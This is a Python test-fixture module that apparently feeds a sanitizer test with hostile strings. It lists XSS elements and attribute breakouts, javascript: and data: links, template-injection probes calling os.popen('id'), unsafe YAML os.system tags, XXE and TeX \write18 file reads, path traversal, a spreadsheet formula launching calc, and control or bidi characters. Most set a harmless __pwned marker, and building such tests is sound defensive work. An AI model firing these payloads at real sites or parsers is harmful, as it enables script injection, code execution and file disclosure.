r"""Hostile text: what somebody may write into a title, a name, a tag or an abstract. All of it invented here.

Where a value could run, it sets `__pwned`, so that a test sees it. One value a line, but for CHARACTERS.
"""

from __future__ import annotations

# Elements that run or load by themselves.
ELEMENTS = r"""
<script>__pwned=1</script>
<SCRIPT>__pwned=1</SCRIPT>
<script
>__pwned=1</script >
<scr<script>ipt>__pwned=1</scr</script>ipt>
<script src="https://evil.invalid/a.js"></script>
<script type="module">window.__pwned=1</script>
<img src=x onerror=__pwned=1>
<img src="x" onerror="__pwned=1" alt="a picture">
<IMG/SRC=x/ONERROR=__pwned=1>
<svg onload=__pwned=1>
<svg><script>__pwned=1</script></svg>
<svg><animate onbegin=__pwned=1 attributeName=x dur=1s>
<svg><a xlink:href="javascript:__pwned=1"><text y="20">read more</text></a></svg>
<body onload=__pwned=1>
<iframe src="javascript:parent.__pwned=1"></iframe>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<object data="javascript:__pwned=1"></object>
<embed src="javascript:__pwned=1">
<video src=x onerror=__pwned=1></video>
<audio autoplay onloadstart=__pwned=1 src=x></audio>
<details open ontoggle=__pwned=1><summary>more</summary>text</details>
<input autofocus onfocus=__pwned=1>
<select autofocus onfocus=__pwned=1><option>one</select>
<marquee onstart=__pwned=1>a title that moves</marquee>
<form action="javascript:__pwned=1"><button>send</button></form>
<button formaction="javascript:__pwned=1" form=x>send</button>
<base href="https://evil.invalid/">
<meta http-equiv="refresh" content="0;url=javascript:__pwned=1">
<link rel=stylesheet href="https://evil.invalid/a.css">
<style>@import "https://evil.invalid/b.css"; * { color: red }</style>
<p style="background:url(https://evil.invalid/c.png);position:fixed;inset:0">over everything</p>
<img src="https://evil.invalid/pixel.png" alt="a pixel">
<template><img src=x onerror=__pwned=1></template>
<noscript><p title="</noscript><img src=x onerror=__pwned=1>">
<isindex type=image src=1 onerror=__pwned=1>
<x onclick=__pwned=1 onmouseover=__pwned=1 tabindex=1>an element of no kind
<a onmouseenter=__pwned=1 href=#>point at me</a>
<math><mtext><script>__pwned=1</script></mtext></math>
<math><maction actiontype="statusline" xlink:href="javascript:__pwned=1">click</maction></math>
<math href="javascript:__pwned=1">click</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=__pwned=1></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned=1>
<frameset onload=__pwned=1><frame src="about:blank"></frameset>
<table background="javascript:__pwned=1"><tr><td>cell</table>
"""

# Ways out of where a value stands: attributes, comments, raw text elements, our own marks.
BREAKOUTS = r"""
"onmouseover="__pwned=1" x="
'onmouseover='__pwned=1' x='
`onmouseover=`__pwned=1`
"><script>__pwned=1</script>
'><script>__pwned=1</script>
" autofocus onfocus=__pwned=1 tabindex=1 "
\" onmouseover=\"__pwned=1
&quot; onmouseover=&quot;__pwned=1
&#34;&gt;&lt;script&gt;__pwned=1&lt;/script&gt;
&lt;img src=x onerror=__pwned=1&gt;
&amp;lt;script&amp;gt;__pwned=1&amp;lt;/script&amp;gt;
--><script>__pwned=1</script><!--
--!><img src=x onerror=__pwned=1>
<!--><img src=x onerror=__pwned=1>-->
<!--[if gte IE 4]><script>__pwned=1</script><![endif]-->
]]><script>__pwned=1</script>
]]>]]&gt;<![CDATA[<script>__pwned=1</script>]]>
</title><script>__pwned=1</script>
</textarea><script>__pwned=1</script>
</style><img src=x onerror=__pwned=1>
</script><script>__pwned=1</script>
</noscript></template></xmp><img src=x onerror=__pwned=1>
</p></div></article></main></body></html><script>__pwned=1</script>
</pre></code><img src=x onerror=__pwned=1>
</span></h1><img src=x onerror=__pwned=1><h1>
<plaintext>and all that follows
<!DOCTYPE x [<!ENTITY a "__pwned">]><b>&a;</b>
<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/hostname">]><t>&x;</t>
<?php echo "__pwned"; ?>
dghole0article0dghole
<!--dghole0article0dghole-->
dghole0head0dghole dghole0title0dghole dghole0canonical0dghole
<!--dghole0article0dghole--><script>__pwned=1</script>
"});__pwned=1;({"
');__pwned=1//
${__pwned=1} `${__pwned=1}`
"""

# Markdown, its extensions, templates and TeX.
MARKUP = r"""
[click](javascript:__pwned=1)
[click](JaVaScRiPt:__pwned=1)
[click](<javascript:__pwned=1>)
[click](javascript&colon;__pwned=1)
[click](java&Tab;script:__pwned=1)
[click](&#106;avascript:__pwned=1)
[click](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=)
[click](vbscript:__pwned=1)
[click](//evil.invalid/a "title\" onmouseover=\"__pwned=1")
[click](https://evil.invalid "x' onmouseover='__pwned=1")
[click](https://evil.invalid){: onclick="__pwned=1" onmouseover="__pwned=1" style="position:fixed" }
*stress*{: onmouseover=__pwned=1 #__toc .md-search }
![a picture](javascript:__pwned=1)
![a picture](x"onerror="__pwned=1)
![a picture](https://evil.invalid/d.png){ onerror=__pwned=1 }
<javascript:__pwned=1>
<a href="javascript:__pwned=1">click</a>
<a href=" &#14; javascript:__pwned=1">click</a>
<a href="&#x6A;&#x61;vascript&#58;__pwned=1">click</a>
<a href="jav&#x0A;ascript:__pwned=1">click</a>
<a href="data:text/html,<script>__pwned=1</script>">click</a>
<a href="vbscript:__pwned=1">click</a>
<a href="javascript:__pwned=1" target="_blank" download>click</a>
*[HTML]: <img src=x onerror=__pwned=1>
[^1]: <img src=x onerror=__pwned=1>
[ref]: javascript:__pwned=1 "a reference"
``<script>__pwned=1</script>`` and `<script>__pwned=1</script>`
~~~ <script>__pwned=1</script>
| a | <img src=x onerror=__pwned=1> |
!!! note "<img src=x onerror=__pwned=1>"
# A heading {: onclick=__pwned=1 }
--8<-- "/etc/hostname"
;--8<-- "mkdocs.yml"
{{ 7*7 }} and {{ config.__class__ }}
{% set x = 7*7 %}{% include "main.html" %}{{ x }}
{%- raw -%}{{ __pwned }}{%- endraw -%} {# a comment #}
{{ lipsum.__globals__.os.popen("id").read() }}
#{7*7} ${7*7} <%= 7*7 %> @(7*7)
:smile: :material-skull:{ onclick=__pwned=1 }
==mark== ^^insert^^ ~~delete~~ {++add++} {--cut--} {>>a comment<<}
$\href{javascript:__pwned=1}{x^2}$
$\url{javascript:__pwned=1}$ and $\style{x:expression(__pwned=1)}{y}$
$<img src=x onerror=__pwned=1>$
$\text{</mtext></math><img src=x onerror=__pwned=1>}$
$$\unicode{<script>__pwned=1</script>}$$
$"><script>__pwned=1</script>$
$\class{md-search" onclick="__pwned=1}{z}$
$\def\a{\a\a}\a$
\input{/etc/hostname} \write18{touch __pwned} \immediate
\begin{equation}<script>__pwned=1</script>\end{equation}
"""

# What YAML, JSON, BibTeX and feeds make of text.
FORMATS = r"""
!!python/object/apply:os.system ["touch __pwned"]
!!python/name:os.system
!ENV [HOME, "none"]
&anchor one *anchor
*anchor
a: b: c
key: value # not a comment
- a list that is none
? a question that YAML could take for a key
| a block
> a fold
[not, a, list
{not: a mapping
"a quote that never closes
'another
@mentioned
%YAML 1.1
--- a document
... an end
null
~
true
1e3
2026-01-01
0x1F
=cmd|' /C calc'!A0
}, url = {javascript:__pwned=1}, note = {
}} @article{x, title = {y}}
@string{a = "b"} # @comment{c} @preamble{"\write18{id}"}
{unbalanced {braces } in a title
closing} first{
100% of \% comments % are text
A title ending in a backslash \
\textbf{\immediate\write18{id}} & co. #1 _x_ ^y^ ~z~
author and others and Others
O'Neil "Quote" Smith, Jr., and "and" Co.
../../../etc/passwd
..\..\windows\win.ini
file:///etc/passwd
//evil.invalid/x
https://user:word@evil.invalid/
https://evil.invalid/"onmouseover="__pwned=1
%3Cscript%3E__pwned=1%3C/script%3E
+ADw-script+AD4-__pwned=1+ADw-/script+AD4-
"""

# By code point: what an editor hides or a parser treats in a way of its own.
CHARACTERS = (
    "an override \u202egnp.exe\u202c turned back",
    "isolates \u2066\u2067\u2068 left open",
    "zero\u200bwidth\u200cspaces\u200dand\ufeffmarks",
    "a null \x00<script>__pwned=1</script>",
    "java\x00script:__pwned=1",
    "escape \x1b[2J\x1b]0;title\x07 codes",
    "backspace \x08\x08\x08 and delete \x7f",
    "next line \x85 and \x9b controls",
    "line \u2028 and paragraph \u2029 separators",
    "a byte order mark \ufeff in the middle",
    "a base mark \x91tags/ inside",
    "maths marks \ufdd00123456789abcdef.0\ufdd1 inside",
    "noncharacters \uffff and \ufffe",
    '\x91"onmouseover="__pwned=1',
    "fullwidth \uff1cscript\uff1e__pwned=1\uff1c/script\uff1e",
    "long s \u017fcript and Kelvin \u212a: <\u017fcript>__pwned=1</\u017fcript>",
    "combining " + "z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 20,
    "private \ue000 use, unassigned \U000e0fff, tag \U000e0041 characters",
    "family \U0001f468\u200d\U0001f469\u200d\U0001f467 and flag \U0001f1e9\U0001f1ea",
    "tab\there\tand\nnewline\n\nand more\r\nof them",
    "first line\n---\nonmouseover: __pwned=1\n---\n<script>__pwned=1</script>",
    '"\n onmouseover=__pwned=1\n x="',
    "a very long word " + "Donaudampfschifffahrt" * 13,
    "<" * 200 + "b",
    "&" * 100 + "#x" + "0" * 100 + "41;",
)

VALUES = (
    *(line for block in (ELEMENTS, BREAKOUTS, MARKUP, FORMATS) for line in block.strip("\n").split("\n")),
    *CHARACTERS,
)
